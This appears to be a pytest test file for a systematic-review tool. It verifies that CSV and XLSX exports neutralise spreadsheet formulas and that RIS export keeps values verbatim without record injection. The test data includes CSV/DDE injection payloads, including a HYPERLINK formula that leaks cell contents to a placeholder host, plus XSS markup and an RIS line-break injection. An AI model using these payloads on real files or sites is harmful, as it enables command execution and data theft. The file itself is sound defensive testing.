"""Record text is data: hostile titles and abstracts leave `review export` harmless, or verbatim.

A search export is written by strangers. A title such as ``=cmd|' /C calc'!A0``
runs as a formula when a colleague opens a CSV or XLSX in a spreadsheet, so
those exports must neutralise it (a leading apostrophe: the cell is text).
RIS goes to reference managers, which never evaluate it, so RIS keeps every
value exactly as imported. HTML, ``<script>`` and Markdown are plain text in
all three: nothing is escaped or stripped (a reviewer must see what the
database sent).
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from review.cli import app as cli
from review.io import read_records
from review.store import open_store, repo

#: Starts a spreadsheet formula (OWASP's CSV-injection list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            '=HYPERLINK("http://example.invalid/?q="&A1,"Click for the full text")']
MARKUP = ["<script>alert('x')</script> Peer support in schools",
          "<b>Bold</b> <img src=x onerror=alert(2)> mentoring &amp; belonging",
          "**Loneliness** in [young people](javascript:alert(1)) # not a heading :red[red]"]
TITLES = FORMULAS + MARKUP


def _review(db: str) -> None:
    store = open_store(db)
    records = [{"title": t, "abstract": f"{t} — abstract", "authors": [f"{t[:6]}, A."],
                "keywords": ["@SUM(A1)", "loneliness"], "journal": "+44 journal",
                "year": 2020 + i} for i, t in enumerate(TITLES)]
    repo.add_source(store, name="=HYPERLINK(\"x\")", kind="database", file_name="hostile.ris",
                    file_format="ris", sha256="9" * 64, records=records)
    store.close()


def _export(db: str, out: Path) -> None:
    done = CliRunner().invoke(cli, ["export", str(out), "--db", db])
    assert done.exit_code == 0, done.output


def neutralised(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


@pytest.fixture
def hostile(db_url: str) -> str:
    _review(db_url)
    return db_url


def test_csv_export_neutralises_formulas_and_keeps_markup_as_text(hostile: str,
                                                                  tmp_path: Path) -> None:
    out = tmp_path / "records.csv"
    _export(hostile, out)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["title"] for r in rows] == [neutralised(t) for t in TITLES]
    assert [r["abstract"] for r in rows] == [neutralised(f"{t} — abstract") for t in TITLES]
    assert {r["keywords"] for r in rows} == {"'@SUM(A1); loneliness"}
    # No cell of any column would start a formula.
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)


def test_xlsx_export_has_no_formula_cells(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "records.xlsx"
    _export(hostile, out)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    titles = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in titles] == [neutralised(t) for t in TITLES]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith(FORMULA_START)


def test_ris_export_keeps_every_value_verbatim(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "records.ris"
    _export(hostile, out)
    text = out.read_text(encoding="utf-8")
    for t in TITLES:
        assert f"TI  - {t}\n" in text
    back = read_records(out).records
    assert [r["title"] for r in back] == TITLES
    assert [r["abstract"] for r in back] == [f"{t} — abstract" for t in TITLES]


def test_a_title_cannot_start_a_new_ris_record(tmp_path: Path) -> None:
    """A line break inside a value must not let the value write its own RIS tags."""
    db = str(tmp_path / "r.db")
    store = open_store(db)
    sneaky = "Peer support\nER  - \nTY  - JOUR\nTI  - Injected record"
    repo.add_source(store, name="PubMed", kind="database", file_name="p.ris", file_format="ris",
                    sha256="8" * 64, records=[{"title": sneaky, "year": 2021}])
    store.close()
    out = tmp_path / "records.ris"
    _export(db, out)
    back = read_records(out).records
    assert len(back) == 1
    assert back[0]["title"] == " ".join(sneaky.split())


def test_a_control_character_cannot_unmask_a_formula_in_xlsx(tmp_path: Path) -> None:
    export = tmp_path / "broken.ris"
    export.write_bytes(b"TY  - JOUR\nTI  - \x01=cmd|' /C calc'!A0\nPY  - 2020\nER  - \n")
    db = str(tmp_path / "r.db")
    runner = CliRunner()
    assert runner.invoke(cli, ["init", "--db", db]).exit_code == 0
    done = runner.invoke(cli, ["import", str(export), "--source", "PubMed", "--db", db])
    assert done.exit_code == 0, done.output  # the importer keeps the control character
    out = tmp_path / "records.xlsx"
    _export(db, out)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("title") + 1)
    assert cell.data_type == "s" and cell.value.startswith("'"), (cell.data_type, cell.value)


def test_evidence_tables_neutralise_a_formula_title(tmp_path: Path) -> None:
    import pandas as pd

    from review.report.tables import SPECS, EvidenceTables, excluded_table, write_evidence_tables

    excluded = pd.DataFrame([{"short_citation": f"Smith {2010 + i}", "title": t,
                              "reason": "Wrong outcome"} for i, t in enumerate(FORMULAS)])
    key = SPECS[1].key  # Table 2: excluded reports, with their titles
    write_evidence_tables(EvidenceTables({key: excluded_table(excluded)}), tmp_path)
    with (tmp_path / f"{key}.csv").open(encoding="utf-8-sig", newline="") as f:
        titles = [row["Title"] for row in csv.DictReader(f)]
    sheet = openpyxl.load_workbook(tmp_path / "evidence_tables.xlsx").worksheets[0]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)
    assert sorted(titles) == sorted(neutralised(t) for t in FORMULAS)
